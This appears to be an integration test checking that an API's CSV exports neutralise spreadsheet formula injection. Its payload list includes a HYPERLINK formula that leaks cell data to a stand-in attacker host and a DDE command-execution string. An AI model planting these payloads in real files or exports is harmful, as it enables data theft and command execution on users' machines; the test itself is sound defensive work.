"""Issue 11 #7: CSV exports neutralise spreadsheet formulas (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import httpx
import psycopg
import pytest
from api_seed import Seeded

pytestmark = pytest.mark.integration

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]


def test_alert_titles_and_site_names_cannot_run_as_formulas(reader: httpx.Client, sec_seeded: Seeded) -> None:
    with psycopg.connect(sec_seeded.url, autocommit=True) as conn:
        for i, title in enumerate(PAYLOADS):
            conn.execute(
                """INSERT INTO alerts (site_id, device_id, source, fault_type, severity, started_at, last_seen_at, title,
                                       recommended_action)
                   VALUES ('alpha', %s, 'maintenance', 'csv_probe', 'info', now(), now(), %s, '=cmd()')""",
                (f"csv-{i}", title),
            )
        conn.execute("UPDATE sites SET name = '=1+1' WHERE site_id = 'beta'")
    alerts = list(csv.DictReader(io.StringIO(reader.get("/v1/alerts", params={"format": "csv", "limit": 50}).text)))
    titles = {row["device_id"]: row["title"] for row in alerts if row["fault_type"] == "csv_probe"}
    assert len(titles) == len(PAYLOADS)
    for i, payload in enumerate(PAYLOADS):
        assert titles[f"csv-{i}"] == "'" + payload  # shown as text, content kept
    assert all(row["recommended_action"] == "'=cmd()" for row in alerts if row["fault_type"] == "csv_probe")
    sites = {row["site_id"]: row for row in csv.DictReader(io.StringIO(reader.get("/v1/sites?format=csv").text))}
    assert sites["beta"]["name"] == "'=1+1"
    assert sites["alpha"]["name"] == "Alpha Solar"  # ordinary text untouched
    assert sites["beta"]["longitude_deg"] == "-3.7"  # numbers stay numbers, negative ones too (not text cells)
    # JSON keeps the exact text
    assert {a["title"] for a in reader.get("/v1/alerts", params={"limit": 50}).json()["items"]} >= set(PAYLOADS)
